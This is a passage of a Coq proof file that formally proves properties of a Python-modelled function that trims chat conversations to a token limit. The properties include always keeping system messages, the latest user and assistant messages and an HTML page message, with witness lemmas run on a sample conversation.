    + assert (Ha : has_role "assistant" m1 = true).
      { unfold either in He1. rewrite Hu in He1. exact He1. }
      unfold other_role. rewrite Hu. simpl. rewrite Hu, Ha.
      split; [apply find_olist|].
      split; [symmetry; apply (find_narrower either); auto using assistant_is_either|].
      destruct (List.find (has_role "user") O) as [m2|] eqn:H2; simpl.
      * pose proof (List.find_some _ _ H2) as [Hin2 Hu2].
        split; [lia|]. split.
        -- constructor; [|constructor; [intros []|constructor]].
           intros [E | []]. unfold has_role in Ha, Hu2.
           apply String.eqb_eq in Ha, Hu2. congruence.
        -- constructor; [split; [apply either_roles, He1 | exact Hin1]|].
           constructor; [|constructor].
           split; [apply either_roles, user_is_either, Hu2 | exact Hin2].
      * split; [lia|]. split; [constructor; [intros []|constructor]|].
        constructor; [split; [apply either_roles, He1 | exact Hin1] | constructor].
  - simpl. split; [reflexivity|].
    split; [symmetry; apply (find_narrower_none either); auto using user_is_either|].
    split; [symmetry; apply (find_narrower_none either); auto using assistant_is_either|].
    split; [lia|]. split; constructor.
Qed.

(** The shape of the result over the limit, when a message holds an HTML
    block. *)
Lemma trim_shape (pre post : list message) (h : message) (max_tokens : Z) :
  max_tokens < estimated_tokens (pre ++ h :: post) ->
  holds_html h = true ->
  List.Forall (fun m => holds_html m = false) post ->
  trim_messages_to_fit (pre ++ h :: post) max_tokens
  = (List.filter (has_role "system") (pre ++ h :: post)
     ++ List.rev (kept (List.rev (pre ++ post))) ++ [h])%list.
Proof.
  intros Hover Hh Hpost. unfold trim_messages_to_fit.
  destruct (estimated_tokens (pre ++ h :: post) <=? max_tokens) eqn:E;
    [apply Z.leb_le in E; lia|].
  rewrite (@latest_html_found pre post h Hh Hpost).
  rewrite scan_closed_form, others_backwards. reflexivity.
Qed.

Lemma not_system (m : message) :
  role m = "user" \/ role m = "assistant" -> has_role "system" m = false.
Proof. unfold has_role. intros [-> | ->]; reflexivity. Qed.

Lemma total_chars_filter (p : message -> bool) (l : list message) :
  total_chars (List.filter p l) <= total_chars l.
Proof.
  induction l as [|m l IH]; simpl; [lia|].
  pose proof (len_nonneg (content m)).
  destruct (p m); rewrite ?total_chars_cons; lia.
Qed.

Lemma total_chars_system_and (r : string) (O : list message) :
  r = "user" \/ r = "assistant" ->
  total_chars (List.filter (has_role "system") O)
  + total_chars (olist (List.find (has_role r) O)) <= total_chars O.
Proof.
  intros Hr. induction O as [|m O IH]; simpl; [unfold total_chars; simpl; lia|].
  pose proof (len_nonneg (content m)).
  destruct (has_role r m) eqn:Hm.
  - assert (Hs : has_role "system" m = false).
    { apply not_system. unfold has_role in Hm. apply String.eqb_eq in Hm.
      destruct Hr; [left | right]; congruence. }
    rewrite Hs. simpl. rewrite !total_chars_cons.
    pose proof (total_chars_filter (has_role "system") O).
    unfold total_chars at 2. simpl. lia.
  - destruct (has_role "system" m); rewrite ?total_chars_cons; lia.
Qed.

Lemma other_role_cases (m : message) :
  other_role m = "user" \/ other_role m = "assistant".
Proof. unfold other_role. destruct (has_role "user" m); auto. Qed.

Lemma other_role_differs (m : message) :
  either m = true -> has_role (other_role m) m = false.
Proof.
  unfold other_role. intros H.
  destruct (has_role "user" m) eqn:Hu; [apply user_not_assistant, Hu | exact Hu].
Qed.

(** The system messages and the kept ones are different messages of the
    conversation: together they are no longer than it. *)
Lemma total_chars_kept (O : list message) :
  total_chars (List.filter (has_role "system") O) + total_chars (kept O)
  <= total_chars O.
Proof.
  unfold kept. induction O as [|m O IH]; simpl; [unfold total_chars; simpl; lia|].
  pose proof (len_nonneg (content m)).
  destruct (either m) eqn:He.
  - rewrite (other_role_differs m He).
    rewrite (not_system m (either_roles m He)).
    rewrite !total_chars_cons.
    pose proof (total_chars_system_and O (other_role_cases m)). lia.
  - assert (Hn : forall m1, either m1 = true -> has_role (other_role m1) m = false).
    { intros m1 _. unfold either in He. apply Bool.orb_false_iff in He as [Hu Ha].
      unfold other_role. destruct (has_role "user" m1); assumption. }
    destruct (List.find either O) as [m1|] eqn:H1.
    + rewrite (Hn m1 (proj2 (List.find_some _ _ H1))).
      destruct (has_role "system" m); rewrite ?total_chars_cons in *; lia.
    + destruct (has_role "system" m); rewrite ?total_chars_cons in *; lia.
Qed.

(** X18. Over the limit, when [h] is the last message with an HTML block,
    [trim_messages_to_fit] returns the system messages in their order,
    then the kept messages in their order, then [h] itself, whole.  The
    kept messages, latest first, are the latest user message and the
    latest assistant message among the messages other than [h], when
    there are such messages, and nothing else. *)
Theorem trim_keeps_system_recent_and_html
    (pre post : list message) (h : message) (max_tokens : Z) :
  max_tokens < estimated_tokens (pre ++ h :: post) ->
  holds_html h = true ->
  List.Forall (fun m => holds_html m = false) post ->
  exists recent,
    trim_messages_to_fit (pre ++ h :: post) max_tokens
    = (List.filter (has_role "system") (pre ++ h :: post)
       ++ List.rev recent ++ [h])%list /\
    List.hd_error recent
    = List.find (fun m => (has_role "user" m || has_role "assistant" m)%bool)
        (List.rev (pre ++ post)) /\
    List.find (has_role "user") recent
    = List.find (has_role "user") (List.rev (pre ++ post)) /\
    List.find (has_role "assistant") recent
    = List.find (has_role "assistant") (List.rev (pre ++ post)) /\
    (List.length recent <= 2)%nat /\
    List.NoDup (List.map role recent) /\
    List.Forall (fun m => role m = "user" \/ role m = "assistant") recent.
Proof.
  intros Hover Hh Hpost.
  exists (kept (List.rev (pre ++ post))).
  split; [apply trim_shape; assumption|].
  destruct (kept_spec (List.rev (pre ++ post))) as (H1 & H2 & H3 & H4 & H5 & H6).
  repeat (split; [assumption|]).
  eapply List.Forall_impl; [|exact H6]. intros m [H _]. exact H.
Qed.

(** X19. [trim_messages_to_fit] returns messages of the conversation,
    unchanged: within the limit all of them, as they are; over the limit
    without any HTML block, the last three (all of them when there are
    fewer). *)
Theorem trim_messages_verbatim (messages : list message) (max_tokens : Z) :
  (forall m, List.In m (trim_messages_to_fit messages max_tokens) ->
             List.In m messages) /\
  (estimated_tokens messages <= max_tokens ->
   trim_messages_to_fit messages max_tokens = messages) /\
  (max_tokens < estimated_tokens messages ->
   List.Forall (fun m => holds_html m = false) messages ->
   exists dropped,
     messages = (dropped ++ trim_messages_to_fit messages max_tokens)%list /\
     List.length (trim_messages_to_fit messages max_tokens)
     = Nat.min 3 (List.length messages)).
Proof.
  split; [|split].
  - intros m. unfold trim_messages_to_fit.
    destruct (estimated_tokens messages <=? max_tokens) eqn:E; [auto|].
    destruct (latest_html messages) as [[i h]|] eqn:Hl.
    + destruct (latest_html_split _ Hl) as (pre & post & -> & -> & Hh & Hpost).
      rewrite scan_closed_form, others_backwards.
      destruct (kept_spec (List.rev (pre ++ post))) as (_ & _ & _ & _ & _ & H6).
      rewrite !List.in_app_iff, <- List.in_rev. intros [H | [H | [<- | []]]].
      * apply List.filter_In in H as [H _]. apply List.in_app_iff in H. exact H.
      * rewrite List.Forall_forall in H6. apply H6 in H as [_ H].
        rewrite <- List.in_rev in H. apply List.in_app_or in H.
        destruct H; [left | right; right]; assumption.
      * right. left. reflexivity.
    + unfold last_three. intros H.
      rewrite <- (List.firstn_skipn (List.length messages - 3) messages).
      apply List.in_or_app. right. exact H.
  - intros H. unfold trim_messages_to_fit.
    apply Z.leb_le in H. rewrite H. reflexivity.
  - intros Hover Hno. unfold trim_messages_to_fit.
    destruct (estimated_tokens messages <=? max_tokens) eqn:E;
      [apply Z.leb_le in E; lia|].
    rewrite (latest_html_none Hno). unfold last_three.
    exists (List.firstn (List.length messages - 3) messages). split.
    + symmetry. apply List.firstn_skipn.
    + rewrite List.length_skipn. lia.
Qed.

(** X20. When no system message holds an HTML block, the result of
    [trim_messages_to_fit] has no more characters than the conversation,
    whatever the limit. *)
Theorem trim_never_grows (messages : list message) (max_tokens : Z) :
  (forall m, List.In m messages -> holds_html m = true -> role m <> "system") ->
  total_chars (trim_messages_to_fit messages max_tokens) <= total_chars messages.
Proof.
  intros Hsys.
  destruct (Z.leb_spec (estimated_tokens messages) max_tokens) as [Hle | Hover].
  - unfold trim_messages_to_fit. apply Z.leb_le in Hle. rewrite Hle. lia.
  - destruct (latest_html messages) as [[i h]|] eqn:Hl.
    + destruct (latest_html_split _ Hl) as (pre & post & -> & -> & Hh & Hpost).
      rewrite (@trim_shape pre post h max_tokens Hover Hh Hpost).
      assert (Hs : has_role "system" h = false).
      { apply String.eqb_neq, Hsys; [|exact Hh].
        apply List.in_or_app. right. left. reflexivity. }
      rewrite List.filter_app. simpl. rewrite Hs.
      pose proof (total_chars_kept (List.rev (pre ++ post))) as Hk.
      rewrite List.filter_rev, total_chars_rev, List.filter_app in Hk.
      rewrite !total_chars_app, total_chars_rev, !total_chars_cons in *.
      rewrite !total_chars_app in Hk.
      change (total_chars []) with 0. lia.
    + unfold trim_messages_to_fit.
      destruct (estimated_tokens messages <=? max_tokens); [lia|].
      rewrite Hl. unfold last_three.
      pose proof (List.firstn_skipn (List.length messages - 3) messages) as Hsplit.
      apply (f_equal total_chars) in Hsplit. rewrite total_chars_app in Hsplit.
      pose proof (total_chars_nonneg
                    (List.firstn (List.length messages - 3) messages)). lia.
Qed.

(** X21. The HTML message is never cut: when the last message with an
    HTML block is by itself estimated over the limit, so is the result of
    [trim_messages_to_fit]. *)
Theorem trim_can_stay_over_limit
    (pre post : list message) (h : message) (max_tokens : Z) :
  holds_html h = true ->
  List.Forall (fun m => holds_html m = false) post ->
  max_tokens < PyStr.len (content h) / 4 ->
  max_tokens < estimated_tokens (trim_messages_to_fit (pre ++ h :: post) max_tokens).
Proof.
  intros Hh Hpost Hbig.
  assert (Hall : PyStr.len (content h) <= total_chars (pre ++ h :: post)).
  { rewrite total_chars_app, total_chars_cons.
    pose proof (total_chars_nonneg pre). pose proof (total_chars_nonneg post). lia. }
  assert (Hover : max_tokens < estimated_tokens (pre ++ h :: post)).
  { unfold estimated_tokens.
    pose proof (Z.div_le_mono _ _ 4 ltac:(lia) Hall). lia. }
  rewrite (@trim_shape pre post h max_tokens Hover Hh Hpost).
  unfold estimated_tokens.
  assert (Hres : PyStr.len (content h)
                 <= total_chars
                      (List.filter (has_role "system") (pre ++ h :: post)
                       ++ List.rev (kept (List.rev (pre ++ post))) ++ [h])).
  { rewrite !total_chars_app, total_chars_cons.
    pose proof (total_chars_nonneg
                  (List.filter (has_role "system") (pre ++ h :: post))).
    pose proof (total_chars_nonneg (List.rev (kept (List.rev (pre ++ post))))).
    change (total_chars []) with 0. lia. }
  pose proof (Z.div_le_mono _ _ 4 ltac:(lia) Hres). lia.
Qed.

(** X22. Over the limit, when the last message with an HTML block is a
    system message, the result of [trim_messages_to_fit] holds it twice:
    among the system messages and again at the end. *)
Theorem system_html_message_sent_twice
    (pre post : list message) (h : message) (max_tokens : Z) :
  max_tokens < estimated_tokens (pre ++ h :: post) ->
  holds_html h = true ->
  List.Forall (fun m => holds_html m = false) post ->
  role h = "system" ->
  exists front,
    trim_messages_to_fit (pre ++ h :: post) max_tokens = (front ++ [h])%list /\
    List.In h front.
Proof.
  intros Hover Hh Hpost Hrole.
  exists (List.filter (has_role "system") (pre ++ h :: post)
          ++ List.rev (kept (List.rev (pre ++ post))))%list.
  split.
  - rewrite (@trim_shape pre post h max_tokens Hover Hh Hpost), List.app_assoc. reflexivity.
  - apply List.in_or_app. left. apply List.filter_In. split.
    + apply List.in_or_app. right. left. reflexivity.
    + unfold has_role. rewrite Hrole. reflexivity.
Qed.

(** A user message with an HTML block, after a system message and before
    at most one other message, is kept whatever the limit. *)
Lemma page_kept (sys page : message) (A R : list message) (max_tokens : Z) :
  has_role "system" sys = true ->
  has_role "user" page = true ->
  holds_html page = true ->
  (List.length R <= 1)%nat ->
  exists rest,
    trim_messages_to_fit (sys :: (A ++ page :: R)) max_tokens = sys :: rest /\
    List.In page rest.
Proof.
  intros Hsys Huser Hh HR.
  destruct (Z.leb_spec (estimated_tokens (sys :: (A ++ page :: R))) max_tokens)
    as [Hle | Hover].
  - unfold trim_messages_to_fit. apply Z.leb_le in Hle. rewrite Hle.
    exists (A ++ page :: R)%list. split; [reflexivity|].
    apply List.in_or_app. right. left. reflexivity.
  - destruct R as [|r [|? ?]]; [| |simpl in HR; lia].
    + change (sys :: (A ++ [page]))%list with ((sys :: A) ++ page :: [])%list in *.
      rewrite (@trim_shape (sys :: A) [] page max_tokens Hover Hh (List.Forall_nil _)).
      cbn [List.app List.filter]. rewrite Hsys. cbn [List.app].
      eexists. split; [reflexivity|].
      apply List.in_or_app. right. apply List.in_or_app. right. left. reflexivity.
    + destruct (holds_html r) eqn:Hr.
      * replace (sys :: (A ++ [page; r]))%list
          with (((sys :: A) ++ [page]) ++ r :: [])%list in *
          by (rewrite <- List.app_assoc; reflexivity).
        rewrite (@trim_shape ((sys :: A) ++ [page]) [] r max_tokens Hover Hr
                   (List.Forall_nil _)).
        cbn [List.app List.filter]. rewrite Hsys. cbn [List.app].
        eexists. split; [reflexivity|].
        apply List.in_or_app. right. apply List.in_or_app. left.
        rewrite <- List.in_rev, List.app_nil_r. cbn [List.rev].
        rewrite List.rev_app_distr.
        cbn [List.rev List.app]. unfold kept. cbn [List.find].
        unfold either at 1. rewrite Huser. left. reflexivity.
      * change (sys :: (A ++ [page; r]))%list
          with ((sys :: A) ++ page :: [r])%list in *.
        rewrite (@trim_shape (sys :: A) [r] page max_tokens Hover Hh
                   (List.Forall_cons _ Hr (List.Forall_nil _))).
        cbn [List.app List.filter]. rewrite Hsys. cbn [List.app].
        eexists. split; [reflexivity|].
        apply List.in_or_app. right. apply List.in_or_app. right. left. reflexivity.
Qed.

(** X23. When the text of the current page holds an HTML block, the
    messages [_get_llm_response] sends to the model start with the system
    prompt and hold the message of the current page, whole, whatever the
    size of the conversation. *)
Theorem page_message_is_always_sent
    (system_prompt history_summary : string) (messages : list message)
    (user_prompt_enabled : bool) (user_custom_prompts : list string)
    (current_page : string) :
  PyStr.contains "```html" current_page = true ->
  exists rest,
    trimmed_messages system_prompt history_summary messages user_prompt_enabled
      user_custom_prompts current_page
    = ("system", system_prompt) :: rest /\
    List.In ("user", current_page) rest.
Proof.
  intros Hpage. unfold trimmed_messages, final_messages.
  match goal with
  | |- context [trim_messages_to_fit ([?s] ++ ?a ++ ?b ++ ?c ++ [?p] ++ ?r)%list] =>
      replace ([s] ++ a ++ b ++ c ++ [p] ++ r)%list
        with (s :: ((a ++ b ++ c) ++ p :: r))%list
        by (simpl; rewrite <- !List.app_assoc; reflexivity);
      apply (@page_kept s p (a ++ b ++ c)%list r 60000)
  end.
  - reflexivity.
  - reflexivity.
  - exact Hpage.
  - destruct (List.find _ _); simpl; lia.
Qed.

End ConversationFacts.

(** The sample conversation under a limit of ten tokens: the page is its
    sixth message. *)
Lemma trim_keeps_system_recent_and_html_witness :
  exists recent,
    Conversation.trim_messages_to_fit Conversation.sample 10
    = ([("system", "prompt")] ++ List.rev recent
       ++ [("user", Conversation.page_text)])%list /\
    (List.length recent <= 2)%nat.
Proof.
  destruct (@trim_keeps_system_recent_and_html
              (List.firstn 5 Conversation.sample) [("user", "second result")]
              ("user", Conversation.page_text) 10)
    as (recent & Heq & _ & _ & _ & Hlen & _).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - constructor; [vm_compute; reflexivity | constructor].
  - exists recent. split; [exact Heq | exact Hlen].
Defined.

(** The sample conversation holds its page in a user message. *)
Lemma trim_never_grows_witness :
  Conversation.total_chars
    (Conversation.trim_messages_to_fit Conversation.sample 10)
  <= Conversation.total_chars Conversation.sample.
Proof.
  apply trim_never_grows.
  intros m Hin Hhtml. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]; [try discriminate Hhtml|]);
    [discriminate | destruct Hin].
Defined.

(** A page of a hundred characters against a limit of ten tokens. *)
Lemma trim_can_stay_over_limit_witness :
  10 < Conversation.estimated_tokens
         (Conversation.trim_messages_to_fit Conversation.sample 10).
Proof.
  apply (@trim_can_stay_over_limit
           (List.firstn 5 Conversation.sample) [("user", "second result")]
           ("user", Conversation.page_text) 10).
  - vm_compute. reflexivity.
  - constructor; [vm_compute; reflexivity | constructor].
  - vm_compute. reflexivity.
Defined.

(** A conversation of one system message that holds the page. *)
Lemma system_html_message_sent_twice_witness :
  exists front,
    Conversation.trim_messages_to_fit [("system", Conversation.page_text)] 10
    = (front ++ [("system", Conversation.page_text)])%list /\
    List.In ("system", Conversation.page_text) front.
Proof.
  apply (@system_html_message_sent_twice [] [] ("system", Conversation.page_text) 10).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - constructor.
  - reflexivity.
Defined.

(** The sample conversation, sent with its page. *)
Lemma page_message_is_always_sent_witness :
  exists rest,
    Conversation.trimmed_messages "prompt" EmptyString Conversation.sample false []
      Conversation.page_text
    = ("system", "prompt") :: rest /\
    List.In ("user", Conversation.page_text) rest.
Proof.
  apply page_message_is_always_sent. vm_compute. reflexivity.
Defined.
